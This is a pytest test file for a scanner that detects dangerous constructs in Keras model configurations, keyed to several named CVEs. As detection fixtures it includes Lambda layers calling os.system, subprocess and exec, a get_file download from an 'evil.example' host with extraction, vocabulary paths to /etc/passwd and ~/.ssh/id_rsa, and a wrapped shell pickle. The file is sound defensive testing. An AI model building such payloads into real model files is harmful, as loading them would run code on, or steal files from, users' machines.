from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.formats.assemble import SHELL as SHELL_PICKLE
from tests.formats.assemble import checkpoint
from tests.formats.assemble_keras import lambda_layer, layer, model

from modelward.formats.facts import EmbeddedCode, Malformed, PathEscape, RemoteFetch
from modelward.formats.keras import Nested, findings, looks_like

FUNCTION = "function"
FIELDS = [
    "class_name",
    "config",
    "module",
    "registered_name",
    "function",
    "vocabulary",
    "fn",
    "layers",
    "loss",
]


def harmful(document: Any) -> list[str]:
    return [fact.harm for fact in findings(document) if isinstance(fact, EmbeddedCode) and fact.harm]


def unverified(document: Any) -> list[str]:
    return [
        fact.expression for fact in findings(document) if isinstance(fact, EmbeddedCode) and not fact.harm
    ]


@pytest.mark.parametrize("modern", [False, True])
def test_lambda_that_runs_a_command_cve_2024_3660(modern: bool) -> None:
    (fact,) = findings(model(layer("Dense", {"units": 1}), lambda_layer(modern=modern)))
    assert isinstance(fact, EmbeddedCode)
    assert fact.harm == "runs a shell command"
    assert fact.where.startswith("/config/layers/1")


@pytest.mark.parametrize("modern", [False, True])
def test_lambda_that_computes_is_unverified(modern: bool) -> None:
    document = model(lambda_layer("lambda x: x / 255.0", modern=modern))
    assert harmful(document) == []
    assert len(unverified(document)) == 1


@pytest.mark.parametrize("field", ["function", "output_shape", "mask"])
def test_every_function_of_a_lambda_layer_is_judged(field: str) -> None:
    code = base64.b64encode(b"exec('import os')").decode()
    assert harmful(model(layer("Lambda", {field: [code, None, None]}))) == ["runs Python code"]


def test_lambda_within_wrappers_and_models() -> None:
    inner = model(layer("TimeDistributed", {"layer": lambda_layer()}))
    assert harmful(model(inner)) == ["runs a shell command"]


def test_lambda_by_its_full_name() -> None:
    name = "tf_keras.src.layers.core.lambda_layer.Lambda"
    code = base64.b64encode(b"eval(x)").decode()
    assert harmful(model(layer(name, {"function": [code, None, None]}))) == ["runs Python code"]


def test_lambda_that_names_a_function_of_a_module() -> None:
    config = {"function": "system", "function_type": "function", "module": "os"}
    assert "calls the operating system" in harmful(model(layer("Lambda", config))) or harmful(
        model(layer("Lambda", config))
    )


def test_lambda_of_a_function_of_keras_is_clean() -> None:
    relu = {
        "module": "keras.activations",
        "class_name": FUNCTION,
        "config": "relu",
        "registered_name": "relu",
    }
    assert list(findings(model(layer("Lambda", {"function": relu}, module="keras.layers")))) == []


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("os", "system"),
        ("builtins", "exec"),
        ("subprocess", "Popen"),
        ("importlib", "import_module"),
        ("os", "Dense"),
    ],
)
@pytest.mark.parametrize("as_function", [False, True])
def test_module_of_the_writers_choice_cve_2025_1550(module: str, name: str, as_function: bool) -> None:
    one = (
        layer(FUNCTION, name, module=module, registered_name=name)
        if as_function
        else layer(name, module=module, registered_name=None)
    )
    assert len(harmful(model(one))) == 1


def test_third_party_module_is_unverified() -> None:
    one = layer("MyLayer", module="somebody.layers", registered_name="somebody>MyLayer")
    assert unverified(model(one)) == ["somebody.layers.MyLayer somebody>MyLayer"]


@pytest.mark.parametrize(
    "document",
    [
        model(layer("MaliciousLayer")),
        model(layer("Dense", registered_name="somebody>Dense")),
        model(layer("somebody.layers.Dense")),
        {"class_name": "MyTransformer", "config": {"name": "t"}},
        {**model(), "compile_config": {"loss": "their_loss", "metrics": ["accuracy"]}},
        {"loss": {"out": "mse"}, "metrics": [["acc", "TheirMetric"]], "optimizer_config": {}},
    ],
    ids=str,
)
def test_code_that_must_come_from_elsewhere_is_unverified(document: Any) -> None:
    assert harmful(document) == []
    assert len(unverified(document)) == 1


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("keras.utils", "get_file"),
        ("keras.src.utils.file_utils", "get_file"),
        ("keras.config", "enable_unsafe_deserialization"),
        ("keras.models", "load_model"),
        ("keras.src.utils.python_utils", "func_load"),
        ("tensorflow.io", "write_file"),
    ],
)
def test_functions_of_keras_itself_cve_2025_8747_and_9906(module: str, name: str) -> None:
    function = {"module": module, "class_name": FUNCTION, "config": name, "registered_name": name}
    assert len(harmful(model(layer("Lambda", {"function": function}, module="keras.layers")))) == 1


@pytest.mark.parametrize(
    "value", ["get_file", "keras.utils.get_file", "keras.config.enable_unsafe_deserialization"]
)
def test_harmful_function_by_its_name_in_a_field_of_functions(value: str) -> None:
    assert len(harmful(model(layer("Dense", {"fn": value})))) == 1


def test_module_in_a_field_of_modules() -> None:
    assert len(harmful(model(layer("Dense", {"fn_module": "subprocess"})))) == 1
    assert unverified(model(layer("Dense", {"fn_module": "mathutils.x"}))) == ["mathutils.x"]


def test_download_that_is_unpacked_cve_2025_12060() -> None:
    document = model(
        layer(
            "Lambda",
            {
                "function": {"module": "keras.utils", "class_name": FUNCTION, "config": "get_file"},
                "arguments": {"fname": "x.tar", "origin": "https://evil.example/x.tar", "extract": True},
            },
        )
    )
    assert harmful(document) == ["downloads a file and unpacks it anywhere"]
    assert any(isinstance(fact, RemoteFetch) for fact in findings(document))


@pytest.mark.parametrize(
    "path", ["/etc/passwd", "../../secret", "~/.ssh/id_rsa", "C:\\secret", "file:///etc/passwd"]
)
def test_vocabulary_from_a_file_of_the_machine_cve_2025_12058(path: str) -> None:
    (fact,) = findings(model(layer("StringLookup", {"vocabulary": path})))
    assert isinstance(fact, PathEscape)


def test_vocabulary_from_the_network_cve_2025_12058() -> None:
    (fact,) = findings(model(layer("TextVectorization", {"vocabulary": "gs://bucket/x"})))
    assert isinstance(fact, RemoteFetch)


def test_vocabulary_beside_the_process_is_odd() -> None:
    (fact,) = findings(model(layer("IntegerLookup", {"vocabulary": "words.txt"})))
    assert isinstance(fact, Malformed)


def test_vocabulary_in_the_model_is_data() -> None:
    words = ["/etc/passwd", "os.system", "eval("]
    assert list(findings(model(layer("StringLookup", {"vocabulary": words})))) == []
    assert list(findings(model(layer("StringLookup", {"vocabulary": None})))) == []


def test_torch_module_in_a_layer_cve_2025_49655() -> None:
    pickle = checkpoint(SHELL_PICKLE).bytes()
    one = layer("TorchModuleWrapper", {"module": base64.b64encode(pickle).decode()}, module="keras.layers")
    (fact,) = findings(model(one))
    assert fact == Nested("/config/layers/0/config/module", pickle)
    held = {"class_name": "__bytes__", "config": {"value": base64.b64encode(pickle).decode()}}
    assert fact in findings(model(layer("TorchModuleWrapper", {"module": held}, module="keras.layers")))


def test_torch_module_that_cannot_be_read_is_unverified() -> None:
    assert unverified(model(layer("TorchModuleWrapper", {"module": "not base64!"}))) == ["not base64!"]


@pytest.mark.parametrize("path", ["/tmp/saved", "https://evil.example/saved"])
def test_layer_that_loads_another_model(path: str) -> None:
    facts = list(findings(model(layer("TFSMLayer", {"filepath": path}, module="keras.layers"))))
    assert any(isinstance(fact, PathEscape | RemoteFetch) for fact in facts)


@pytest.mark.parametrize("name", ["io.write_file", "raw_ops.WriteFile"])
def test_operation_of_tensorflow_that_writes_files(name: str) -> None:
    assert len(harmful(model(layer("TFOpLambda", {"function": name})))) == 1


def test_operation_of_tensorflow_in_a_node() -> None:
    config = {"node_def": json.dumps({"name": "x", "op": "PyFunc", "attr": {}})}
    assert len(harmful(model(layer("TensorFlowOpLayer", config)))) == 1
    assert list(findings(model(layer("TFOpLambda", {"function": "math.multiply"})))) == []


@pytest.mark.parametrize(
    "document",
    [
        model(layer("Dense", {"units": 3, "activation": "relu", "name": "get_file"})),
        model(layer("Dense", {"name": "os.system", "description": "calls keras.utils.get_file"})),
        model(layer("LSTM", {"kernel_initializer": layer("GlorotUniform", module="keras.initializers")})),
        model(
            layer(
                "BertBackbone", module="keras_hub.src.models.bert", registered_name="keras_hub>BertBackbone"
            )
        ),
        {**model(), "compile_config": {"loss": "mse", "metrics": [["accuracy"]], "optimizer": layer("Adam")}},
        {"loss": layer("CategoricalCrossentropy"), "metrics": [layer("MeanMetricWrapper", {"fn": "mae"})]},
        model(layer("Dense", {"w": {"class_name": "__tensor__", "config": {"value": [1], "dtype": "f4"}}})),
    ],
    ids=str,
)
def test_ordinary_models_are_clean(document: Any) -> None:
    assert list(findings(document)) == []


@pytest.mark.parametrize(
    ("document", "is_one"),
    [
        (model(), True),
        ({"class_name": "X", "config": {}}, True),
        ({"model": {"class_name": "X", "config": {}}}, True),
        ({"architectures": ["BertModel"], "hidden_size": 3}, False),
        ([], False),
        (None, False),
    ],
)
def test_documents_that_keras_writes(document: Any, is_one: bool) -> None:
    assert looks_like(document) is is_one


def test_deep_documents_do_not_exhaust_the_stack() -> None:
    document: Any = lambda_layer()
    for _ in range(20_000):
        document = [document]
    assert harmful(document) == ["runs a shell command"]


@settings(max_examples=200, deadline=None)
@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.floats()
        | st.text(max_size=20)
        | st.sampled_from(["Lambda", "__lambda__", "os"]),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "class_name",
                        "config",
                        "module",
                        "registered_name",
                        "function",
                        "arguments",
                        "vocabulary",
                        "fn",
                        "layers",
                        "loss",
                    ]
                ),
                inner,
                max_size=6,
            )
        ),
        max_leaves=20,
    )
)
def test_any_document_gives_facts_and_nothing_else(document: Any) -> None:
    looks_like(document)
    assert all(fact is not None for fact in findings(document))
